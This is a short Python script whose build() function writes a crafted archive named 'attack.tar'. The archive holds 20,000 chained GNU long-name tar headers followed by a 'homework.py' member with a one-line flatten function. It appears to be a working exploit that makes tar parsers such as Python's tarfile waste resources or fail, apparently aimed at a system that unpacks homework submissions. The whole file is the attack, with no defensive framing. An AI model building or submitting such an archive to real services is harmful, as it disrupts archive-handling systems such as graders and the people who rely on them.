import io
import tarfile
from pathlib import Path

HOMEWORK = "def flatten(x):\n    return x.reshape(x.shape[0], -1)\n"


def build(folder: Path) -> None:
    blocks = []
    for _ in range(20_000):
        info = tarfile.TarInfo("././@LongLink")
        info.type, info.size = tarfile.GNUTYPE_LONGNAME, 4
        blocks += [info.tobuf(), b"abc".ljust(512, b"\0")]
    home = tarfile.TarInfo("homework.py")
    home.size = len(HOMEWORK)
    blocks += [home.tobuf(), HOMEWORK.encode().ljust(512, b"\0"), bytes(1024)]
    (folder / "attack.tar").write_bytes(b"".join(blocks))
